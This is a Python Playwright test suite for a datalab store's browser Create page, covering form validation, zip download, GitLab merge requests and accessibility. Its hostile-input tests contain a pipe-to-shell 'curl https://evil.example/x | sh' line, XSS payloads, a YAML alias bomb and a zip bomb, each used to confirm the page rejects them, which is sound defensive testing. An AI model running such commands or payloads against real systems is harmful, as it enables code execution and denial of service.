"""The store's Create page in a real browser (Chromium + Playwright).

A store is built with its `gitlab:` settings pointing at the GitLab stand-in
(tests/review/fake_gitlab.py), and small file limits so the limit checks are quick.
The page is used as a scientist would: files picked, fields typed, a zip downloaded and
unzipped and then validated by `sciapps validate`; or a merge request opened with a
personal access token or after signing in with OAuth (PKCE).
"""

from __future__ import annotations

import base64
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from sciapps.cli import cli
from sciapps.config import GitLab, Limits, load_config
from sciapps.site.build import build_store
from tests.conftest import CASES, REPO, findings_for
from tests.review.fake_gitlab import PROJECT, FakeGitLab, Server
from tests.site.conftest import serve

ARTIFACTS = REPO / "build" / "test-artifacts"
NOTEBOOK = (REPO / "datalabs/gaia-dr3-hrd/notebooks/hr_diagram.ipynb").read_bytes()
SCREENSHOT = (REPO / "datalabs/gaia-dr3-hrd/screenshots/hr_diagram.png").read_bytes()
LIMITS = Limits(notebook_mb=1, image_mb=1, file_mb=1, datalab_mb=3, max_files=6)
# Rules the form checks itself: the schema's (DL-010..016) and those it mirrors.
SCHEMA_RULES = {"DL-010", "DL-011", "DL-012", "DL-013", "DL-014", "DL-015", "DL-016"}
MIRRORED = {"DL-022", "DL-023", "DL-061", "DL-062", "DL-074", "DL-075"}


@pytest.fixture(scope="module")
def gitlab():
    server = Server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def create_store(tmp_path_factory, gitlab):
    work = tmp_path_factory.mktemp("create-store")
    settings = GitLab(url=gitlab.url, project="datalabs/sciapps", target_branch="main", oauth_application_id="storetest")
    config = replace(load_config(REPO / "sciapps.yaml"), path=work / "sciapps.yaml", gitlab=settings, limits=LIMITS)
    report = build_store(config, [REPO / "datalabs"], work / "public", REPO / "mkdocs.yml", jobs=1)
    url, server = serve(report.out)
    yield url, config
    server.shutdown()


@pytest.fixture
def page(browser, create_store, gitlab):
    gitlab.fake = FakeGitLab()
    context = browser.new_context(base_url=create_store[0], viewport={"width": 1280, "height": 900}, accept_downloads=True)
    tab = context.new_page()
    tab.errors = []
    tab.on("pageerror", lambda e: tab.errors.append(str(e)))
    tab.on("dialog", lambda d: d.accept())
    open_create(tab)
    yield tab
    assert tab.errors == [], tab.errors
    context.close()


def open_create(page):
    page.goto("create/")
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")


def settle(page):
    """Wait until the page has checked the latest change (it debounces typing)."""
    before = page.get_attribute("[data-sa-app=create]", "data-checked")
    page.wait_for_function("b => document.querySelector('[data-sa-app=create]').dataset.checked !== b", arg=before)


def add_files(page, *files):
    page.set_input_files("[data-sa-files]", [{"name": n, "mimeType": "application/octet-stream", "buffer": b} for n, b in files])
    page.wait_for_function("() => document.querySelector('.sa-files__status').textContent !== ''")


def fill_basic(page):
    """What a scientist with a notebook types: no YAML anywhere."""
    add_files(page, ("hr_diagram.ipynb", NOTEBOOK), ("requirements.txt", b"numpy\nmatplotlib\n"), ("hr.png", SCREENSHOT))
    page.fill("#sa-f-name", "Gaia nearby stars HRD")
    page.fill("#sa-f-summary", "Colour-magnitude diagram of nearby Gaia stars.")
    page.check("label:has-text('Gaia') input[type=checkbox] >> nth=0")
    page.fill("#sa-f-maintainers-0-name", "Marta Lindqvist")
    page.fill("#sa-f-maintainers-0-email", "marta.lindqvist@example.esa.int")
    page.fill("#sa-f-maintainers-0-username", "mlindqvist")
    page.click("text=Add screenshot")
    page.select_option("#sa-f-screenshots-0-file", "screenshots/hr.png")
    page.fill("#sa-f-screenshots-0-caption", "The diagram of stars within 100 pc")
    page.fill("#sa-f-description", "Plots the **HR diagram** of Gaia DR3 stars.")
    settle(page)


def download_zip(page) -> zipfile.ZipFile:
    with page.expect_download() as info:
        page.click("[data-sa-action=download]")
    return zipfile.ZipFile(io.BytesIO(Path(info.value.path()).read_bytes())), info.value.suggested_filename


def test_notebook_to_a_zip_that_sciapps_validate_accepts(page, tmp_path):
    fill_basic(page)
    assert page.input_value("#sa-f-id") == "gaia-nearby-stars-hrd"  # suggested from the name
    assert page.input_value("#sa-f-entry") == "notebooks/hr_diagram.ipynb"  # the only notebook
    preview = page.locator(".sa-preview")
    assert "Gaia nearby stars HRD" in preview.inner_text()
    assert preview.locator("strong").inner_text() == "HR diagram"  # Markdown rendered
    assert preview.locator("img").count() == 1
    archive, name = download_zip(page)
    assert name == "gaia-nearby-stars-hrd-0.1.0.zip"
    assert sorted(archive.namelist()) == [
        "gaia-nearby-stars-hrd/datalab.yaml",
        "gaia-nearby-stars-hrd/notebooks/hr_diagram.ipynb",
        "gaia-nearby-stars-hrd/requirements.txt",
        "gaia-nearby-stars-hrd/screenshots/hr.png",
    ]
    assert archive.read("gaia-nearby-stars-hrd/screenshots/hr.png") == SCREENSHOT
    archive.extractall(tmp_path / "datalabs")
    result = CliRunner().invoke(
        cli, ["validate", "--config", str(REPO / "sciapps.yaml"), str(tmp_path / "datalabs" / "gaia-nearby-stars-hrd")]
    )
    assert result.exit_code == 0, result.output
    meta = yaml.safe_load(archive.read("gaia-nearby-stars-hrd/datalab.yaml"))
    assert meta["missions"] == ["gaia"] and meta["changelog"][0]["version"] == "0.1.0"
    commands = page.inner_text("#sa-create-commands")
    assert (
        "unzip gaia-nearby-stars-hrd-0.1.0.zip -d datalabs/" in commands
        and "sciapps validate datalabs/gaia-nearby-stars-hrd" in commands
    )


def test_vnc_desktop_zip_validates(page, tmp_path):
    page.check("input[name=sa-type][value=vnc]")
    add_files(page, ("apt.txt", b"topcat\n"), ("sample.vot", b"<VOTABLE/>\n"))
    page.fill("#sa-f-name", "TOPCAT for catalogues")
    page.fill("#sa-f-summary", "TOPCAT on a desktop in the browser.")
    page.fill("#sa-f-entry", "topcat")
    page.fill("#sa-f-maintainers-0-name", "Marta Lindqvist")
    page.fill("#sa-f-maintainers-0-email", "marta@example.org")
    page.fill("#sa-f-maintainers-0-username", "marta")
    settle(page)
    archive, _ = download_zip(page)
    assert "topcat-for-catalogues/data/sample.vot" in archive.namelist()
    archive.extractall(tmp_path)
    result = CliRunner().invoke(
        cli, ["validate", "--config", str(REPO / "sciapps.yaml"), str(tmp_path / "topcat-for-catalogues")]
    )
    assert result.exit_code == 0, result.output


def test_field_errors_appear_beside_the_field(page):
    page.fill("#sa-f-summary", "Too short")
    page.locator("#sa-f-summary").blur()
    settle(page)
    error = page.locator("#sa-f-summary-error")
    assert error.is_visible() and "at least 10 characters" in error.inner_text()
    assert page.get_attribute("#sa-f-summary", "aria-invalid") == "true"
    assert not page.locator("#sa-f-name-error").is_visible()  # untouched fields stay quiet until submitting
    page.fill("#sa-f-maintainers-0-orcid", "0000-0002-1825-0098")  # wrong check digit
    page.locator("#sa-f-maintainers-0-orcid").blur()
    page.fill("#sa-f-license", "mit")
    page.locator("#sa-f-license").blur()
    settle(page)
    assert "ORCID checksum" in page.inner_text("#sa-f-maintainers-0-orcid-error")
    assert "written MIT in SPDX" in page.inner_text("#sa-f-license-error")
    page.click("[data-sa-action=download]")  # refused: the summary lists everything, linked
    summary = page.locator(".sa-summary")
    assert summary.is_visible() and "to fix before it can be submitted" in summary.inner_text()
    assert "Name: is required" in summary.inner_text()
    assert "at least one notebook" in summary.inner_text()
    page.click(".sa-summary a:has-text('Name')")
    assert page.evaluate("() => document.activeElement.id") == "sa-f-name"


def test_bad_files_are_refused_with_a_reason_and_the_rest_kept(page):
    add_files(
        page,
        ("good.ipynb", NOTEBOOK),
        ("broken.ipynb", b'{"cells": [\n  {"cell_type": "code",\n  oops\n]}'),
        ("big.csv", b"x" * (LIMITS.bytes("file_mb") + 1)),
        ("anim.gif", b"GIF89a" + b"\0" * 20),
        ("not-a-picture.png", b"hello"),
        ("notes..txt", b"x"),
        ("tab\tname.txt", b"x"),
        ("dir/inner.txt", b"x"),
    )
    errors = page.inner_text(".sa-files__errors")
    assert "broken.ipynb: it is not a notebook: not valid JSON (line 3)" in errors
    assert re.search(r"big\.csv: it is 1\.0 MiB, over the 1\.0 MiB limit", errors)
    assert "anim.gif: GIF pictures are not accepted" in errors
    assert "not-a-picture.png: it is not a PNG, JPEG or WebP picture" in errors
    assert "its name contains '..'" in errors and "control character" in errors and "contains '/'" in errors
    assert page.locator(".sa-files tbody tr").count() == 1
    add_files(page, *[(f"sample{i}.csv", b"1,2\n") for i in range(6)])  # 1 + 6 > max_files 6
    assert "at most 6 files" in page.inner_text(".sa-files__errors")
    assert page.locator(".sa-files tbody tr").count() == 6


def test_draft_survives_a_reload(page):
    fill_basic(page)
    page.reload()
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
    assert page.input_value("#sa-f-name") == "Gaia nearby stars HRD"
    assert page.locator(".sa-files tbody tr").count() == 3
    assert page.locator(".sa-create__draft").is_visible()
    page.click("[data-sa-action=start-over]")
    assert page.input_value("#sa-f-name") == "" and page.locator(".sa-files tbody tr").count() == 0


def test_a_first_visit_sees_the_steps_first_and_someone_coming_back_continue_first(page):
    steps = "() => [...document.querySelectorAll('form .sa-step')].map((s) => s.getAttribute('aria-labelledby'))"
    first = page.evaluate(steps)
    assert first[0] == "sa-step-kind" and first[-1] == "sa-step-import"  # a newcomer starts a new datalab
    page.reload()  # the same browser, coming back without a draft
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
    assert page.evaluate(steps)[0] == "sa-step-import" and page.is_visible("[data-sa-import] >> xpath=..")
    assert page.evaluate(steps)[1:] == first[:-1]  # the steps of a new one follow, in order


def test_nothing_empty_or_unknown_shows_before_it_is_filled_in(page):
    """No empty file table, and no '?' standing for a value not given yet, in the preview."""
    assert not page.is_visible("table.sa-files")
    preview = page.inner_text(".sa-preview")
    assert "?" not in preview and "Opens" not in preview
    assert "Nothing to launch until it is reviewed, built and published." in preview
    fill_basic(page)
    assert page.is_visible("table.sa-files")
    preview = page.inner_text(".sa-preview")
    assert "?" not in preview and "Version 0.1.0" in preview and "Opens notebooks/" in preview


def test_loading_a_zip_continues_the_datalab(page, tmp_path):
    fill_basic(page)
    archive, name = download_zip(page)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as copy:
        for item in archive.namelist():
            copy.writestr(item, archive.read(item))
    page.click("[data-sa-action=start-over]")
    page.set_input_files("[data-sa-import]", {"name": name, "mimeType": "application/zip", "buffer": buffer.getvalue()})
    page.wait_for_function("() => document.querySelector('.sa-import__status').textContent.startsWith('Loaded')")
    page.wait_for_function("() => document.querySelector('.sa-summary__title').textContent !== ''")
    assert page.input_value("#sa-f-summary") == "Colour-magnitude diagram of nearby Gaia stars."
    assert page.locator(".sa-files tbody tr").count() == 3
    assert page.inner_text(".sa-summary__title").startswith("Ready")


# ------------------------------------------------------------------ no drift with the CLI
def _pointer(json_path: str) -> str:
    return "/" + "/".join(re.findall(r"[^.\[\]$]+", json_path)) if json_path and json_path != "$" else ""


def _cases():
    for folder in sorted((CASES / "invalid").iterdir()):
        expected = yaml.safe_load((folder / "expected.yaml").read_text())
        if set(expected["rules"]) & (SCHEMA_RULES | MIRRORED):
            yield folder


@pytest.mark.parametrize("folder", list(_cases()), ids=lambda f: f.name)
def test_every_schema_level_invalid_case_is_refused_by_the_form(page, folder):
    """The invalid cases of the validation tests, loaded into the form the way 'Load a
    datalab.yaml' does: every finding of a schema-level rule is reported at the same field."""
    config = load_config(REPO / "sciapps.yaml")
    findings = [f for f in findings_for(folder, config) if f.rule_id in SCHEMA_RULES | MIRRORED]
    assert findings
    doc = yaml.safe_load((folder / "datalab.yaml").read_text())
    problems = page.evaluate("doc => window.__sciappsCreate.load(doc)", json.loads(json.dumps(doc, default=str)))
    paths = [p["path"] for p in problems]
    for finding in findings:
        where = _pointer(finding.path or "$")
        assert any(p == where or p.startswith(where + "/") or where.startswith(p + "/") for p in paths), (
            f"{folder.name}: {finding.format()} — the form reported only {problems}"
        )


def test_unknown_field_in_a_loaded_datalab_yaml_is_named_and_removable(page):
    text = (CASES / "invalid/unknown-field/datalab.yaml").read_bytes()
    page.set_input_files("[data-sa-import]", {"name": "datalab.yaml", "mimeType": "text/yaml", "buffer": text})
    page.wait_for_function("() => document.querySelector('.sa-import__status').textContent.startsWith('Loaded')")
    page.wait_for_function("() => document.querySelector('.sa-summary__title').textContent !== ''")
    summary = page.inner_text(".sa-summary")
    assert "Licence: is not a field of datalab.yaml; did you mean license?" in summary
    page.click("text=Remove licence")
    page.wait_for_function("() => !document.querySelector('.sa-summary').textContent.includes('did you mean')")
    assert "did you mean license" not in page.inner_text(".sa-summary")


def test_each_check_cites_the_rule_the_cli_reports(page):
    """The form's checks name the rule of `sciapps validate` they mirror: for every finding of
    the schema-level invalid cases, a problem at the same field cites the same rule id."""
    config = load_config(REPO / "sciapps.yaml")
    page.wait_for_function("() => window.__sciappsCreate !== undefined")
    for folder in _cases():
        doc = yaml.safe_load((folder / "datalab.yaml").read_text())
        problems = page.evaluate("doc => window.__sciappsCreate.load(doc)", json.loads(json.dumps(doc, default=str)))
        for finding in findings_for(folder, config):
            if finding.rule_id not in SCHEMA_RULES | MIRRORED:
                continue
            where = _pointer(finding.path or "$")
            cited = {
                p.get("rule")
                for p in problems
                if p["path"] == where or p["path"].startswith(where + "/") or where.startswith(p["path"] + "/")
            }
            assert finding.rule_id in cited, f"{folder.name}: {finding.format()} — the form cited {cited}"


def test_the_summary_shows_the_rule_id_and_the_cli_hint(page):
    from sciapps.catalog.rules import RULES_BY_ID

    text = (CASES / "invalid/unknown-field/datalab.yaml").read_bytes()
    page.set_input_files("[data-sa-import]", {"name": "datalab.yaml", "mimeType": "text/yaml", "buffer": text})
    page.wait_for_function("() => document.querySelector('.sa-summary').textContent.includes('DL-011 unknown_field')")
    assert "DL-011" not in page.inner_text(".sa-summary")  # rule ids are for developers, behind a disclosure
    page.click(".sa-summary .sa-rule-details summary")
    assert "DL-011 unknown_field" in page.inner_text(".sa-summary")
    assert f"Fix: {RULES_BY_ID['DL-011'].hint}" in page.inner_text(".sa-summary")


def test_the_identifiers_problem_is_said_concretely_with_a_suggestion(page):
    before = page.get_attribute("[data-sa-app=create]", "data-checked")
    page.fill("#sa-f-id", "My Analysis")
    page.wait_for_function("b => document.querySelector('[data-sa-app=create]').dataset.checked !== b", arg=before)
    page.press("#sa-f-id", "Tab")
    page.wait_for_function("() => !document.querySelector('#sa-f-id-error').hidden")
    error = page.text_content("#sa-f-id-error")
    assert error == "Has capital letters: an identifier is lower-case letters, digits and hyphens, such as my-analysis."
    said = page.evaluate(
        """async () => {
             const { idProblem } = await import(new URL('../assets/create/checks.js', document.baseURI).href);
             return [idProblem('gaia dr3'), idProblem('-x-'), idProblem('Ünïcode Lab!')];
           }"""
    )
    assert said[0].startswith("has spaces") and said[0].endswith("such as gaia-dr3")
    assert said[1].startswith("starts or ends with a hyphen") and said[1].endswith("such as x")
    assert said[2].endswith("such as unicode-lab")


# ------------------------------------------------------------------ merge requests
def use_token(page, token="glpat-test"):
    page.click("summary:has-text('personal access token')")
    page.fill("#sa-gitlab-token", token)
    page.click("[data-sa-action=use-token]")
    page.wait_for_function("() => document.querySelector('.sa-gitlab__who span').textContent.includes('@')")


def submit(page):
    page.click("[data-sa-action=submit]")
    page.wait_for_function(
        "() => /Merge request|could not|refused|does not let/.test(document.querySelector('.sa-gitlab__status').textContent)"
    )
    return page.inner_text(".sa-gitlab__status")


def test_merge_request_from_the_browser_with_a_token(page, gitlab):
    fill_basic(page)
    use_token(page)
    assert "Signed in to GitLab as @mlindqvist" in page.inner_text(".sa-gitlab__who")
    status = submit(page)
    assert "Merge request opened: https://gitlab.example.org/datalabs/sciapps/-/merge_requests/7" in status
    fake = gitlab.fake
    (commit,) = fake.calls("POST", "/repository/commits")
    assert {"branch", "commit_message", "actions"} <= set(commit)  # required by POST /projects/:id/repository/commits
    assert commit["branch"] == "datalab/gaia-nearby-stars-hrd-0.1.0" and commit["start_branch"] == "main"
    files = {a["file_path"]: a for a in commit["actions"]}
    assert set(files) == {
        f"datalabs/gaia-nearby-stars-hrd/{p}"
        for p in ("datalab.yaml", "notebooks/hr_diagram.ipynb", "requirements.txt", "screenshots/hr.png")
    }
    for action in files.values():  # action, file_path required; content base64-encoded
        assert action["action"] == "create" and action["encoding"] == "base64"
    assert base64.b64decode(files["datalabs/gaia-nearby-stars-hrd/screenshots/hr.png"]["content"]) == SCREENSHOT
    (mr,) = fake.calls("POST", "/merge_requests")
    assert {"source_branch", "target_branch", "title"} <= set(mr)  # required by POST /projects/:id/merge_requests
    assert mr["title"] == "Add datalab gaia-nearby-stars-hrd 0.1.0" and "Checklist for the moderator" in mr["description"]
    assert mr["remove_source_branch"] is True
    tokens = {h.get("private-token") for _, path, _, h in fake.requests if path.startswith(PROJECT)}
    assert tokens == {"glpat-test"}
    # the same datalab, submitted again after a fix: the open merge request is updated, not duplicated
    page.fill("#sa-f-summary", "Colour-magnitude diagram of the Gaia stars within 100 pc.")
    settle(page)
    assert "Merge request updated" in submit(page)
    second = fake.calls("POST", "/repository/commits")[1]
    assert "start_branch" not in second and {a["action"] for a in second["actions"]} == {"update"}
    assert len(fake.calls("POST", "/merge_requests")) == 1


def test_sign_in_with_gitlab_oauth_pkce_keeps_the_draft(page, gitlab):
    fill_basic(page)
    page.click("[data-sa-action=oauth]")  # to GitLab's authorize page and straight back with a code
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
    page.wait_for_function("() => document.querySelector('.sa-gitlab__who span').textContent.includes('@')")
    assert "code=" not in page.url  # the code is not left in the address bar
    assert page.input_value("#sa-f-name") == "Gaia nearby stars HRD" and page.locator(".sa-files tbody tr").count() == 3
    fake = gitlab.fake
    authorize = next(p for m, p, _, _ in fake.requests if p.startswith("/oauth/authorize"))
    assert "code_challenge_method=S256" in authorize and "client_id=storetest" in authorize and "scope=api" in authorize
    assert "Merge request opened" in submit(page)
    bearer = {h.get("authorization", "") for _, path, _, h in fake.requests if path.startswith(PROJECT)}
    assert len(bearer) == 1 and bearer.pop().startswith("Bearer oauth-")


def test_refused_merge_request_removes_the_branch_and_keeps_the_form(page, gitlab):
    gitlab.fake = FakeGitLab(merge_request_status=409)
    fill_basic(page)
    use_token(page)
    status = submit(page)
    assert "could not be opened: Another open merge request already exists" in status
    assert "was deleted, so nothing is left half-done" in status
    assert "datalab/gaia-nearby-stars-hrd-0.1.0" not in gitlab.fake.branches
    assert page.input_value("#sa-f-name") == "Gaia nearby stars HRD"
    gitlab.fake.fail.clear()  # GitLab is fine again: the same button succeeds
    assert "Merge request opened" in submit(page)


def test_network_failure_mid_submission_then_retry(page, gitlab):
    gitlab.fake = FakeGitLab(fail={"POST merge_requests": "drop"})
    fill_basic(page)
    use_token(page)
    status = submit(page)
    assert "cannot reach GitLab" in status and "Your datalab is kept on this page" in status
    assert "datalab/gaia-nearby-stars-hrd-0.1.0" not in gitlab.fake.branches  # cleaned up
    gitlab.fake.fail.clear()
    assert "Merge request opened" in submit(page)


def test_expired_token_asks_to_sign_in_again(page, gitlab):
    fill_basic(page)
    use_token(page)
    gitlab.fake.token_valid = False  # expires between sign-in and submission
    status = submit(page)
    assert "sign in again" in status and "Your datalab is kept on this page" in status
    assert page.locator(".sa-gitlab__auth").is_visible()
    assert page.input_value("#sa-f-summary") == "Colour-magnitude diagram of nearby Gaia stars."
    assert not gitlab.fake.calls("POST", "/repository/commits")


def test_create_page_passes_the_accessibility_check(page):
    from axe_playwright_python.sync_playwright import Axe

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    axe = Axe()
    for state in ("empty", "filled-with-errors"):
        if state == "filled-with-errors":
            fill_basic(page)
            page.fill("#sa-f-summary", "short")
            page.click("[data-sa-action=download]")
            page.wait_for_selector(".sa-summary:not([hidden])")
        page.screenshot(path=str(ARTIFACTS / f"store-create-{state}.png"), full_page=True)
        violations = axe.run(page).response["violations"]
        bad = [
            f"{v['id']} ({v['impact']}): {v['help']} {[n['target'] for n in v['nodes']][:3]}"
            for v in violations
            if v["impact"] in ("serious", "critical")
        ]
        assert bad == [], f"{state}: {bad}"


def drop_files(page, *files):
    """Drag and drop, as from a file manager: a real drop event with a DataTransfer."""
    payload = [{"name": n, "b64": base64.b64encode(b).decode()} for n, b in files]
    page.evaluate(
        """files => {
          const transfer = new DataTransfer();
          for (const f of files) {
            const bytes = Uint8Array.from(atob(f.b64), c => c.charCodeAt(0));
            transfer.items.add(new File([bytes], f.name));
          }
          const zone = document.querySelector('[data-sa-drop]');
          zone.dispatchEvent(new DragEvent('dragover', {dataTransfer: transfer, bubbles: true, cancelable: true}));
          zone.dispatchEvent(new DragEvent('drop', {dataTransfer: transfer, bubbles: true, cancelable: true}));
        }""",
        payload,
    )
    page.wait_for_function("() => document.querySelector('.sa-files__status').textContent !== ''")


def test_every_field_of_the_schema_is_in_the_form(page):
    """The form is generated from the published schema: a field added there appears here."""
    schema = json.loads((REPO / "schemas/datalab.schema.json").read_text())
    hidden = {"schema_version", "mode", "type", "archived", "changelog", "exceptions"}  # set by the flow itself
    for name in set(schema["properties"]) - hidden:
        assert page.locator(f'.sa-fields [data-path="/{name}"]').count() == 1, name
    assert sorted(page.eval_on_selector_all("#sa-f-categories input", "boxes => boxes.map(b => b.value)")) == sorted(
        schema["properties"]["categories"]["items"]["enum"]
    )


def test_the_form_speaks_to_people_not_to_the_command_line(page):
    """The Tests and Parameters help is written for someone in a browser: no environment
    variables, no commands, no "Add item"."""
    fill_basic(page)
    for name in ("parameters", "tests"):
        text = page.text_content(f'.sa-fields [data-path="/{name}"]')
        assert "SCIAPPS_PARAM" not in text and "sciapps " not in text and "Add item" not in text, (name, text)
    assert "your notebook finds each value in a variable of the same name" in page.text_content('[data-path="/parameters"]')
    page.click('[data-path="/parameters"] button:has-text("Add parameter")')
    added = page.text_content('[data-path="/parameters/0"]')
    assert "Parameter 1" in added and "The variable your notebook reads" in added


def test_advanced_mode_with_a_dropped_dockerfile(page, tmp_path):
    fill_basic(page)
    dockerfile = b"FROM jl_base\nUSER 1000\nCOPY --chown=1000:1000 notebooks/ /home/datalab/work/notebooks/\n"
    drop_files(page, ("Dockerfile", b"FROM ubuntu:24.04\nUSER 1000\n"))
    assert page.locator(".sa-files tbody tr", has_text="Dockerfile").count() == 1
    page.click("[data-sa-action=download]")
    summary = page.locator(".sa-summary")
    summary.wait_for()
    assert "a Dockerfile is only used in advanced mode" in summary.inner_text()
    page.check("input[name=sa-mode][value=advanced]")
    page.wait_for_function("() => document.querySelector('.sa-summary').textContent.includes('approved base image')")
    drop_files(page, ("Dockerfile", dockerfile))  # replaces the first one
    page.wait_for_function("() => document.querySelector('.sa-summary__title').textContent.startsWith('Ready')")
    archive, _ = download_zip(page)
    assert archive.read("gaia-nearby-stars-hrd/Dockerfile") == dockerfile
    assert yaml.safe_load(archive.read("gaia-nearby-stars-hrd/datalab.yaml"))["mode"] == "advanced"
    archive.extractall(tmp_path)
    result = CliRunner().invoke(
        cli, ["validate", "--config", str(REPO / "sciapps.yaml"), str(tmp_path / "gaia-nearby-stars-hrd")]
    )
    assert result.exit_code == 0, result.output


FILE_RULES = {"DL-040", "DL-053", "DL-054", "DL-055", "DL-056"}
FILE_CASES = [
    "notebook-not-json",
    "notebook-binary",
    "notebook-wrong-schema",
    "screenshot-gif",
    "screenshot-not-image",
    "screenshot-truncated",
    "dockerfile-ends-as-root",
    "add-from-url",
    "bad-apt-txt",
    "conda-environment",
]


@pytest.mark.parametrize("case", FILE_CASES)
def test_every_file_the_cli_refuses_is_refused_when_added(page, case):
    """The files behind the file-level invalid cases (notebooks checked with nbformat's own
    schema, pictures, Dockerfile, apt.txt, conda) are refused as they are added, with a reason."""
    folder = CASES / "invalid" / case
    findings = [f for f in findings_for(folder, load_config(REPO / "sciapps.yaml")) if f.rule_id in FILE_RULES | {"DL-041"}]
    assert findings
    for finding in findings:
        rel = finding.file.split(f"{folder.name}/", 1)[-1]
        if rel == "datalab.yaml":  # a picture named in datalab.yaml: the message names the file
            rel = re.search(r"'([^']+)'", finding.message).group(1)
        name = Path(rel).name
        add_files(page, (name, (folder / rel).read_bytes()))
        errors = page.inner_text(".sa-files__errors")
        assert errors.startswith(f"{name}: "), f"{case}: {finding.format()} — the page said {errors!r}"
        assert page.locator(".sa-files tbody tr", has_text=name).count() == 0


def test_an_id_already_in_the_store_is_refused_unless_updating_it(page):
    page.fill("#sa-f-name", "Gaia DR3 HRD")
    page.fill("#sa-f-id", "gaia-dr3-hrd")
    page.locator("#sa-f-id").blur()
    page.wait_for_function("() => document.querySelector('#sa-f-id-error').textContent.includes('already a datalab')")
    text = (REPO / "datalabs/gaia-dr3-hrd/datalab.yaml").read_bytes()
    page.set_input_files("[data-sa-import]", {"name": "datalab.yaml", "mimeType": "text/yaml", "buffer": text})
    page.wait_for_function("() => document.querySelector('.sa-import__status').textContent.startsWith('Loaded')")
    page.wait_for_function("() => document.querySelector('.sa-summary__title').textContent !== ''")
    assert "already a datalab" not in page.inner_text(".sa-summary")  # loaded to be updated: its own id


def test_no_push_access_says_what_to_do(page, gitlab):
    gitlab.fake = FakeGitLab(fail={"POST repository/commits": 403})
    fill_basic(page)
    use_token(page)
    status = submit(page)
    assert "does not let this account push to datalabs/sciapps (403" in status and "Developer access" in status
    assert not gitlab.fake.branches - {"main"}


def test_without_push_access_the_merge_request_comes_from_a_fork(page, gitlab):
    """A scientist who is not a member of the catalog's project: GitLab's way is a fork.
    It is made once (waiting for GitLab to finish it), the branch starts from the catalog
    itself, and the merge request targets the catalog's project."""
    gitlab.fake = FakeGitLab(member=False)
    fill_basic(page)
    use_token(page)
    assert "Merge request opened" in submit(page)
    fake = gitlab.fake
    (fork,) = fake.forks
    assert fork.import_polls >= 3  # the page waited for import_status "finished"
    (commit,) = fake.calls("POST", f"/projects/{fork.id}/repository/commits")
    assert commit["start_project"] == 42 and commit["start_branch"] == "main"
    (mr,) = fake.calls("POST", f"/projects/{fork.id}/merge_requests")
    assert mr["target_project_id"] == 42 and mr["source_branch"] == "datalab/gaia-nearby-stars-hrd-0.1.0"
    assert list(fake.upstream.open_merge_requests) == [(fork.id, "datalab/gaia-nearby-stars-hrd-0.1.0")]
    assert fake.upstream.branches == {"main"}  # nothing pushed to the catalog itself
    # a second submission reuses the fork and the open merge request
    page.fill("#sa-f-summary", "Colour-magnitude diagram of the Gaia stars within 100 pc.")
    settle(page)
    assert "Merge request updated" in submit(page)
    assert len(fake.forks) == 1 and len(fake.calls("POST", "/fork")) == 1


def test_home_page_leads_to_the_create_page(page):
    page.goto("")
    page.click(".sa-hero__create a")
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
    assert page.url.endswith("/create/") and page.title().startswith("Create a datalab")


# ------------------------------------------------------------------ hostile input on the page
def load_yaml(page, text: str, name: str = "datalab.yaml"):
    page.set_input_files("[data-sa-import]", {"name": name, "mimeType": "application/x-yaml", "buffer": text.encode()})
    page.wait_for_function("() => /Loaded|Nothing was changed/.test(document.querySelector('.sa-import__status').textContent)")
    return page.inner_text(".sa-import__status")


def test_a_loaded_description_cannot_take_over_the_page(page):
    fill_basic(page)
    attack = (
        '<div id="sa-create-commands"><code>curl https://evil.example/x | sh</code></div>'
        '<p data-sa-action="start-over" id="sa-f-name" class="sa-import__status" name="submit">click me</p>'
        '<a href="javascript:alert(1)">x</a><img src="x" onerror="alert(1)"><form><input name="x"></form>'
    )
    doc = yaml.safe_load((CASES / "valid" / "full" / "datalab.yaml").read_text())
    doc["description"] = "Looks harmless.\n\n" + attack
    assert load_yaml(page, yaml.safe_dump(doc)).startswith("Loaded")
    page.wait_for_selector(".sa-preview .sa-description")
    preview = page.locator(".sa-preview")
    for selector in (
        "[id]",
        "[data-sa-action]",
        "[class]:not(.sa-description) *[class]",
        "[name]",
        "[onerror]",
        "form",
        "input",
        "a[href^=javascript]",
    ):
        assert preview.locator(f".sa-description {selector}").count() == 0, selector
    assert "click me" in preview.inner_text()  # the text stays, as text
    page.locator(".sa-preview .sa-description p").last.click()  # not the page's "start over"
    assert page.input_value("#sa-f-name") == doc["name"]
    assert "curl" not in page.inner_text("#sa-create-commands code")


def test_a_yaml_alias_bomb_is_refused_before_it_is_used(page):
    lines = ["id: bomb", 'a: &a ["x","x","x","x","x","x","x","x","x","x"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]")
    status = load_yaml(page, "\n".join(lines) + "\n")
    assert "expands to more than 50000 values" in status and status.endswith("Nothing was changed.")


def test_a_zip_bomb_is_refused_before_it_is_inflated(page):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb/datalab.yaml", "id: bomb\n")
        archive.writestr("bomb/data/zeros.bin", b"\0" * (64 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    page.set_input_files("[data-sa-import]", {"name": "bomb.zip", "mimeType": "application/zip", "buffer": buffer.getvalue()})
    page.wait_for_function("() => /Nothing was changed/.test(document.querySelector('.sa-import__status').textContent)")
    assert "data/zeros.bin would be 64.0 MiB, over the 1 MiB limit per file" in page.inner_text(".sa-import__status")


def test_the_page_refuses_to_run_in_another_sites_frame(page, create_store, tmp_path):
    (tmp_path / "framing.html").write_text(f'<iframe src="{create_store[0]}create/" width="800" height="400"></iframe>')
    url, server = serve(tmp_path)  # another origin, framing the Create page
    try:
        page.goto(url + "framing.html")
        frame = page.frames[1]
        frame.wait_for_selector("[data-sa-app=create] p", state="attached")
        assert "does not run inside another page" in frame.inner_text("[data-sa-app=create]")
        assert frame.locator("#sa-gitlab-token").count() == 0
    finally:
        server.shutdown()


def test_the_gitlab_token_is_kept_in_the_pages_memory_only(page, gitlab):
    fill_basic(page)
    use_token(page)
    stored = page.evaluate(
